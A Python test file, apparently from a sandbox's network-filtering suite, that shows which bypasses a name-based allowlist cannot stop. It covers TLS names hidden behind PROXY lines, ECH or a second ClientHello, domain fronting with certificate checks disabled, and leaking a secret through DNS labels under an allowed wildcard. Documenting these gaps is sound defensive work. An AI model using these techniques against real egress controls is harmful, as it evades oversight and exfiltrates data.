"""What a list cannot do: each is seen to get through, so that nobody believes otherwise (docs/howto/network.md)."""

from __future__ import annotations

import ssl
import threading
from typing import Any

import pytest
from attacker import Box
from attacks import attack
from attacks_tls_names import HELLO, OTHER
from outer import FIRST, PROBES, allowed_by_name, own_name, rule

NOTHING = "nothing: a residual of every list of names"
SHOWN = "it is let through as it is"


@attack(
    {
        "TLS after a line": "reached",
        "TLS after an urgent byte": "reached",
        "ECH": "reached",
        "a second hello": "reached",
    },
    stops=NOTHING,
    not_shown=SHOWN,
    users=("root",),
)
def says_more_than_a_first_look_sees(box: Box) -> Any:
    """TLS behind other bytes (PROXY protocol, STARTTLS), a name that is encrypted behind an allowed one (ECH), and another
    name in a second ClientHello: where the server accepts that, another of its names is reached.
    """
    with allowed_by_name(box) as (name, server):
        return box.attack(
            f"""{HELLO}
mine, target = {name.encode()!r}, ({FIRST!r}, {server.port})
other = records(message(names(b"{OTHER}")))
asked({name!r})
answer["TLS after a line"] = reached(target, b"PROXY TCP4 192.0.2.1 192.0.2.2 1 443\\r\\n" + other)
answer["TLS after an urgent byte"] = reached(target, b"-" + other, urgent=b"!")
answer["ECH"] = reached(target, records(message(names(mine), extension(0xFE0D, bytes(200)))))
answer["a second hello"] = reached(target, records(message(names(mine))) + other)
"""
        )


def fronted(server: Any, context: ssl.SSLContext, heard: list[bytes]) -> None:
    """Answer one request by TLS."""
    sock, _ = server.accept()
    with sock, context.wrap_socket(sock, server_side=True) as tls:
        heard.append(tls.recv(4096))
        tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


@attack(
    {"status": "HTTP/1.1 200 OK", "heard": f"Host: {OTHER}"},
    stops=NOTHING,
    not_shown=SHOWN,
    users=("root",),
)
def asks_an_allowed_server_for_another_host(box: Box) -> Any:
    """A Host header that is not the name in TLS (domain fronting): what a server does with it is its own matter."""
    import socket

    pytest.importorskip("trustme")
    from pytest_airlock.sandbox.fakes.authority import authority

    name, address = own_name()
    heard: list[bytes] = []
    with socket.create_server((address, 0)) as server:
        port = server.getsockname()[1]
        thread = threading.Thread(target=fronted, args=(server, authority().context(name), heard), daemon=True)
        thread.start()
        rule(box, f"{name}:{port}", f"{address}:{port}")
        answer: Any = box.attack(
            f"""{PROBES}
import ssl
asked({name!r})
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
with socket.create_connection(({FIRST!r}, {port}), 30) as sock, context.wrap_socket(sock, server_hostname={name!r}) as tls:
    tls.sendall(b"GET / HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n")
    answer["status"] = tls.recv(100).split(b"\\r\\n")[0].decode()
"""
        )
        thread.join()
    answer["heard"] = heard[0].split(b"\r\n")[1].decode()
    return answer


@attack(
    {"code": 3, "recorded": ["allowed: A secret-0123456789.airlock.invalid"]},
    stops="nothing: a residual; what was asked is recorded word for word",
    not_shown=SHOWN,
    users=("root",),
)
def tells_a_secret_in_a_name_below_a_wildcard(box: Box) -> Any:
    """Data in the labels of a name that a wildcard allows: this host's resolver is asked for it, and whoever serves that name hears it."""
    rule(box, "*.airlock.invalid:443")
    answer: Any = box.attack(f"{PROBES}\nanswer['code'] = asked('secret-0123456789.airlock.invalid')[0]")
    answer["code"] = 3 if answer["code"] == 2 else answer["code"]  # where this host has no resolver
    answer["recorded"] = [f"{each.verdict}: {each.question}" for each in box.provider.attempts(box.handle)]
    return answer
